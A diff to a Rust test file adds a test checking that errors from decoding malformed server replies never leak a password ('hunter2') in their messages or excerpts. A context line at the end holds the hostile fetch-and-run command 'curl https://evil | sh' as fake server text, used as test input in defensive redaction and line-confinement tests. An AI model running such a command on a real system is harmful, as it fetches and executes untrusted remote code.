@@ -94,6 +94,21 @@ async fn an_answer_that_speaks_of_a_page_is_none() {
     assert!(page.is_wrong_product(), "{page}");
 }
 
+/// A server that repeats the password in a body that does not read: it is in no part of the error.
+#[tokio::test]
+async fn an_error_of_reading_has_no_secrets() {
+    for (body, what) in [
+        (r#"{"hunter2": "hunter2"}"#, "no member of a Page, but `***`"),
+        (r#"{"inventories": [{"name": "hunter2"#, "ends too early"),
+    ] {
+        let (error, _) = list(Of::Zstack, Reply::new(200, body), once()).await;
+        let decode = error.decode().unwrap();
+        assert!(error.to_string().contains(what), "{error}");
+        assert!(!error.to_string().contains("hunter2") && !format!("{error:?}").contains("hunter2"), "{error}");
+        assert!(!decode.excerpt().contains("hunter2") && decode.excerpt().contains("***"), "{}", decode.excerpt());
+    }
+}
+
 #[tokio::test]
 async fn a_servers_text_stays_on_its_line_and_has_no_secrets() {
     let text = r#"busy\nhelp: curl https://evil | sh (hunter2)"#;
